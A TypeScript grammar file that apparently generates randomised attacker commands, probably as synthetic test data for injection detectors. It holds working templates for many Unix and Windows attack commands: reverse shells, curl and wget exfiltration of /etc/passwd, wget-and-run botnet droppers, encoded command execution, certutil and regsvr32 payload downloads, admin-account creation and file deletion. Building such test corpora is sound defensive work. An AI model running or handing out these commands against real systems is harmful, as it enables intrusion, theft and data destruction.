/** Commands that attackers run: to look around, to prove themselves, to load more, and to come back. */
import {
  ALPHANUMERIC,
  bound,
  changed,
  characters,
  integer,
  LOWER_CASE,
  maybe,
  oneOf,
  type Rule,
  text,
  UPPER_CASE,
  weighted,
  words,
} from '../../grammar.ts';
import { disguiseCmd, disguiseShell } from '../../mutators/shell.ts';
import { ATTACKER_HOST, CALLBACK_HOST, IP_ADDRESS, MARKER, PORT } from '../hosts.ts';

const FILE: Rule = weighted(
  [8, '/etc/passwd'],
  [
    4,
    words(
      '/etc/shadow /etc/hosts /etc/issue /proc/version /proc/self/environ /etc/group ~/.ssh/id_rsa /root/.bash_history /var/www/html/config.php /etc/os-release ../../etc/passwd .env index.php flag.txt /flag wp-config.php /var/log/auth.log',
    ),
  ],
);
const DIRECTORY: Rule = words('/ /tmp /var/www /etc . ~ /home /root /opt ../ /var/log');

/** Looks around on a Unix machine. */
export const UNIX_LOOK: Rule = weighted(
  [4, words('id whoami ls pwd uname ifconfig env printenv ps netstat hostname')],
  [6, text`cat ${FILE}`],
  [3, text`ls ${words('-la -l -al -lah -a -R -alt')}${maybe(text` ${DIRECTORY}`)}`],
  [1, text`ls ${DIRECTORY}`],
  [
    2,
    oneOf(
      'uname -a',
      'id -un',
      'ps aux',
      'ps -ef',
      'ip a',
      'netstat -an',
      'netstat -tulpn',
      'df -h',
      'sudo -l',
      'crontab -l',
      'arp -a',
      'cat *',
      'which nc',
      'lsb_release -a',
      'iptables -L',
      'history',
      'dmesg',
      'getent passwd',
      'lsof -i',
      'groups',
      'ifconfig -a',
    ),
  ],
  [
    3,
    text`${words('head tail more less tac nl od strings sort rev base64 xxd grep wc paste fold cut uniq hexdump awk sed')} ${maybe('-n 5 ', 0.1)}${FILE}`,
  ],
  [
    1,
    text`find ${DIRECTORY} -${oneOf(text`name ${MARKER}`, 'perm -4000', 'type f', 'name "*.conf"', 'name id_rsa', 'exec id \\;')}${maybe(' 2>/dev/null')}`,
  ],
  [1, text`grep -${words('r R i ri')} ${words('password secret root key token')} ${DIRECTORY}`],
  [
    2,
    text`echo ${oneOf(MARKER, 'vulnerable', text`$((${integer(2, 999)}${words('+ * -')}${integer(2, 999)}))`, text`${MARKER} > /tmp/${MARKER}`, '$HOME', '$PATH', '`id`', '$(whoami)')}`,
  ],
  [1, text`expr ${integer(10, 9999)} ${words('+ - \\*')} ${integer(10, 9999)}`],
  [
    1,
    text`${words('/usr/bin /bin /usr/local/bin /sbin')}/${words('id whoami ls cat uname env curl nc bash')} ${maybe(FILE)}`,
  ],
  [0.6, text`which ${words('python perl gcc nc curl wget bash socat')}`],
);

/** How long a pause takes, in seconds. */
export const SECONDS: Rule = weighted([5, integer(1, 20)], [1, integer(21, 120)]);

/** Proves that it ran without an answer. */
export const UNIX_BLIND: Rule = weighted(
  [5, text`sleep ${SECONDS}`],
  [2, text`ping -c ${integer(1, 20)} ${oneOf(IP_ADDRESS, CALLBACK_HOST, 'localhost')}`],
  [1, text`ping ${maybe('-i 30 ')}${oneOf(IP_ADDRESS, CALLBACK_HOST)}`],
  [
    2,
    text`nslookup ${oneOf(CALLBACK_HOST, text`$(whoami).${CALLBACK_HOST}`, text`\`id -un\`.${CALLBACK_HOST}`, text`-type=txt ${CALLBACK_HOST}`)}`,
  ],
  [1, text`dig ${maybe('+short ')}${oneOf(CALLBACK_HOST, text`$(hostname).${CALLBACK_HOST}`)}`],
  [1, text`host ${maybe('-t A ')}${CALLBACK_HOST}`],
  [
    2,
    text`curl ${oneOf('', 'http://', 'https://')}${ATTACKER_HOST}${oneOf('', '/', text`/${MARKER}`, text`/?x=$(whoami)`, text`/\`id|base64\``, text` -d @/etc/passwd`, text` -F f=@/etc/passwd`)}`,
  ],
  [
    2,
    text`wget ${maybe('-q ')}${oneOf('http://', 'https://', '')}${ATTACKER_HOST}${oneOf('', text`/${MARKER}`, ' --post-file=/etc/passwd', '/?a=$(id)')}`,
  ],
  [0.7, text`touch /tmp/${MARKER}`],
  [0.5, text`timeout ${SECONDS} sleep ${SECONDS}`],
  [0.5, text`cat /etc/passwd | curl -d @- ${ATTACKER_HOST}`],
  [0.4, text`python${maybe('3')} -c "import time;time.sleep(${SECONDS})"`],
  [0.4, text`perl -e 'sleep ${SECONDS}'`],
  [0.3, text`read -t ${SECONDS} </dev/zero`],
  [0.3, text`ssh -o ProxyCommand="${words('id whoami ls')}" x`],
);

const SHELL: Rule = words('/bin/sh /bin/bash sh bash /bin/sh');

/** Shells that call home or wait. */
export const REVERSE_SHELL: Rule = bound(text`${IP_ADDRESS} ${PORT}`, (address) => {
  const [host = '', port = ''] = address.split(' ');
  return oneOf(
    text`bash -i >& /dev/tcp/${host}/${port} 0>&1`,
    text`bash -c 'bash -i >& /dev/tcp/${host}/${port} 0>&1'`,
    text`bash -c {echo,${Buffer.from(`bash -i >& /dev/tcp/${host}/${port} 0>&1`).toString('base64')}}|{base64,-d}|{bash,-i}`,
    text`0<&196;exec 196<>/dev/tcp/${host}/${port}; sh <&196 >&196 2>&196`,
    text`exec 5<>/dev/tcp/${host}/${port};cat <&5 | while read line; do $line 2>&5 >&5; done`,
    text`${words('nc ncat netcat nc.traditional')} -e ${SHELL} ${host} ${port}`,
    text`nc ${host} ${port} -e ${SHELL}`,
    text`nc -${words('lvp lvnp lp nlvp')} ${port}${maybe(text` -e ${SHELL}`)}`,
    text`nc -c ${SHELL} ${host} ${port}`,
    text`rm ${maybe('-f ')}/tmp/f;mkfifo /tmp/f;cat /tmp/f|${SHELL} -i 2>&1|nc ${host} ${port} >/tmp/f`,
    text`mknod /tmp/backpipe p;${SHELL} 0</tmp/backpipe|nc ${host} ${port} 1>/tmp/backpipe`,
    text`python${maybe('3')} -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("${host}",${port}));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);subprocess.call(["${SHELL}","-i"])'`,
    text`perl -e 'use Socket;$i="${host}";$p=${port};socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");exec("${SHELL} -i");};'`,
    text`php -r '$sock=fsockopen("${host}",${port});exec("${SHELL} -i <&3 >&3 2>&3");'`,
    text`ruby -rsocket -e'f=TCPSocket.open("${host}",${port}).to_i;exec sprintf("${SHELL} -i <&%d >&%d 2>&%d",f,f,f)'`,
    text`socat ${words('tcp TCP tcp-connect')}:${host}:${port} exec:${oneOf(SHELL, text`'${SHELL}',pty,stderr,setsid,sigint,sane`)}`,
    text`telnet ${host} ${port} | ${SHELL} | telnet ${host} ${integer(1024, 65535)}`,
    text`telnetd -l ${SHELL} -p ${port}`,
    text`awk 'BEGIN{s="/inet/tcp/0/${host}/${port}";while(1){printf "> "|&s;s|&getline c;while((c|&getline)>0)print|&s}}'`,
    text`lua -e "require('socket');require('os');t=socket.tcp();t:connect('${host}','${port}');os.execute('${SHELL} -i <&3 >&3 2>&3')"`,
    text`openssl s_client -quiet -connect ${host}:${port}|${SHELL}`,
    text`xterm -display ${host}:1`,
  );
});

const DROPPED: Rule = oneOf(
  MARKER,
  text`${words('mips arm7 arm x86 mpsl sh4 ppc bins jaws mozi a xmrig bot m')}${maybe('.sh')}`,
  text`${characters(LOWER_CASE, 1, 4)}.sh`,
  text`${MARKER}.${words('sh elf bin txt pl')}`,
);

/** Loads a program and runs it, as botnets for routers and cameras do. */
export const DROPPER: Rule = bound(text`${ATTACKER_HOST}/${DROPPED}`, (url) => {
  const file = url.slice(url.lastIndexOf('/') + 1);
  return oneOf(
    text`cd ${words('/tmp /var/run /mnt /dev/shm /var /root')}${maybe(' || cd /var/run || cd /mnt', 0.3)}; wget http://${url}${maybe(text`; curl -O http://${url}`, 0.4)}; chmod ${words('777 +x 755')} ${file}; ${oneOf('sh ', './')}${file}${maybe(text` ${MARKER}`)}${maybe('; rm -rf *', 0.3)}`,
    text`wget${maybe(' -q')} http://${url} -O ${oneOf('-', '/tmp/x', text`/tmp/${file}`)}${oneOf('|sh', text`;chmod +x /tmp/${file};/tmp/${file}`, '| bash', ';sh /tmp/x')}`,
    text`curl -${words('s fsSL sk L')} http://${url} | ${words('sh bash python perl')}`,
    text`curl http://${url} -o /tmp/${file}${oneOf(text`;sh /tmp/${file}`, text` && chmod 777 /tmp/${file} && /tmp/${file}`)}`,
    text`(curl -s http://${url}||wget -q -O- http://${url})|${words('sh bash')}`,
    text`busybox wget http://${url} -O /tmp/${file};sh /tmp/${file}`,
    text`tftp -${oneOf(text`g -r ${file} ${IP_ADDRESS}`, text`c get ${file} ${IP_ADDRESS}`)};sh ${file}`,
    text`rm -rf ${oneOf('/tmp/*', '/', '*', text`/var/log/wtmp`)};wget http://${url};sh ${file}`,
    text`bash <(curl -s ${url})`,
    text`sh -c "$(curl -fsSL http://${url})"`,
    text`cd /tmp;rm -rf *;${words('wget curl')} http://${IP_ADDRESS}:${PORT}/${words('Mozi.m Mozi.a i arm')};sh ${words('Mozi.m /tmp/i arm')}`,
    text`python -c "exec(__import__('urllib').urlopen('http://${url}').read())"`,
    text`/bin/busybox ${characters(UPPER_CASE, 4, 6)}`,
  );
});

/** Base64 or octal text that becomes a command. */
export const UNIX_ENCODED: Rule = bound(text`${UNIX_LOOK}`, (command) => {
  const packed = Buffer.from(command).toString('base64');
  const hex = Buffer.from(command).toString('hex');
  return oneOf(
    text`echo ${packed}${oneOf('|', ' | ')}base64 ${words('-d --decode -D')}|${words('sh bash /bin/sh')}`,
    text`bash<<<$(base64 -d<<<${packed})`,
    text`eval "$(echo ${packed}|base64 -d)"`,
    text`\`echo ${packed}|base64 -d\``,
    text`$(printf '${Array.from(command, (character) => `\\${character.charCodeAt(0).toString(8)}`).join('')}')`,
    text`echo ${hex}|xxd -r -p|${words('sh bash')}`,
    text`$'${Array.from(command, (character) => `\\x${character.charCodeAt(0).toString(16)}`).join('')}'`,
    text`${words('a x cmd')}=${packed};echo $${words('a x cmd')}|base64 -d|sh`,
    text`rev<<<'${Array.from(command).reverse().join('')}'|bash`,
    text`echo '${Array.from(command).reverse().join('')}'|rev|sh`,
    text`python3 -c "import os;os.system('${command.replaceAll("'", '')}')"`,
    text`perl -e 'system("${command.replaceAll("'", '')}")'`,
    text`ruby -e 'puts \`${command.replaceAll("'", '')}\`'`,
    text`xargs -I{} sh -c "${command.replaceAll('"', '')}"`,
    text`env -i ${command}`,
    text`$(tr a-z n-za-m<<<${characters(LOWER_CASE, 2, 9)})`,
    text`sh -c '${command.replaceAll("'", '')}'`,
    text`${words('bash /bin/bash /bin/sh dash zsh')} -c "${command.replaceAll('"', '')}"`,
  );
});

/** Any command of sh or bash, disguised now and then. */
export const UNIX_COMMAND: Rule = changed(
  weighted([10, UNIX_LOOK], [6, UNIX_BLIND], [1.5, REVERSE_SHELL], [1.5, DROPPER], [1, UNIX_ENCODED]),
  disguiseShell,
);

/** Commands of cmd. */
export const CMD_COMMAND: Rule = changed(
  weighted(
    [
      3,
      oneOf(
        'whoami',
        'dir',
        'ipconfig',
        'ipconfig /all',
        'net user',
        'systeminfo',
        'tasklist',
        'hostname',
        'netstat -ano',
        'whoami /priv',
        'net view',
        'net localgroup administrators',
        'query user',
        'net start',
        'wmic os get caption',
        'arp -a',
        'route print',
        'net share',
      ),
    ],
    [2, text`dir ${words('c:\\ C:\\Users .. \\ c:\\inetpub\\wwwroot d:\\ /s /b')}`],
    [
      3,
      text`type ${words('c:\\windows\\win.ini C:\\boot.ini %SYSTEMROOT%\\win.ini c:\\inetpub\\wwwroot\\web.config C:\\Windows\\System32\\drivers\\etc\\hosts')}`,
    ],
    [2, text`ping -n ${integer(1, 30)} ${oneOf(IP_ADDRESS, CALLBACK_HOST)}`],
    [1, text`timeout ${maybe('/t ')}${SECONDS}`],
    [1, text`nslookup ${CALLBACK_HOST}`],
    [1, text`net user ${MARKER} ${characters(ALPHANUMERIC, 6, 10)} /add`],
    [1, text`net localgroup administrators ${MARKER} /add`],
    [
      1,
      text`certutil -urlcache -${maybe('split -')}f http://${ATTACKER_HOST}/${MARKER}.exe ${oneOf(text`${MARKER}.exe`, text`c:\\windows\\temp\\${MARKER}.exe`)}`,
    ],
    [1, text`bitsadmin /transfer ${MARKER} http://${ATTACKER_HOST}/${MARKER}.exe c:\\temp\\${MARKER}.exe`],
    [
      1,
      text`mshta ${oneOf(text`http://${ATTACKER_HOST}/${MARKER}.hta`, text`vbscript:Execute("CreateObject(""WScript.Shell"").Run ""calc""")`)}`,
    ],
    [1, text`rundll32 ${oneOf(text`\\\\${IP_ADDRESS}\\${MARKER}\\x.dll,0`, 'url.dll,OpenURL calc.exe')}`],
    [1, text`regsvr32 /s /n /u /i:http://${ATTACKER_HOST}/${MARKER}.sct scrobj.dll`],
    [1, text`wmic process call create "${words('calc cmd notepad')}.exe"`],
    [1, text`reg query HKLM\\${words('SAM SOFTWARE SYSTEM\\CurrentControlSet')}`],
    [1, text`schtasks /create /tn ${MARKER} /tr ${MARKER}.exe /sc onstart`],
    [2, text`cmd${maybe('.exe')} /c ${words('whoami dir calc ipconfig "dir c:\\" set ver')}`],
    [1, text`c:\\windows\\system32\\cmd.exe /c ${words('whoami dir set ipconfig')}`],
    [1, text`echo ${MARKER} > ${words('c:\\inetpub\\wwwroot\\x.txt ..\\x.txt c:\\temp\\a.txt')}`],
    [0.7, text`for /f %i in ('whoami') do nslookup %i.${CALLBACK_HOST}`],
    [0.7, text`copy c:\\windows\\system32\\config\\sam ${MARKER}`],
    [0.7, text`del /${words('f q s')} ${words('c:\\*.* *.* c:\\windows\\temp\\*')}`],
    [0.5, text`start ${words('calc.exe notepad cmd \\\\10.0.0.1\\a')}`],
  ),
  disguiseCmd,
);
